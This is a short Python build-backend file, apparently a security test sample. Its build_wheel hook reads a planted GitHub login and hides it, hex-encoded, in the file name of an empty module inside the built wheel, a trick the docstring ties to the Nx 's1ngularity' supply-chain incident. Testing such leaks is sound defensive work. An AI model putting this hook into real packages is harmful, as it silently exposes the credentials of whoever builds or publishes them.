"""Reads the caller's GitHub login and uses it, in hexadecimal, as the name of a module.

The file itself is empty; scanners that look into files see nothing. Nx (s1ngularity)
published what it found in the victim's own name, too.
"""

import pathlib

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("open-login"):
        login = pathlib.Path(kit.plant("login").path).read_bytes()
        loot[f"_{login.hex()}.py"] = b""
    return kit.wheel(wheel_directory, loot)
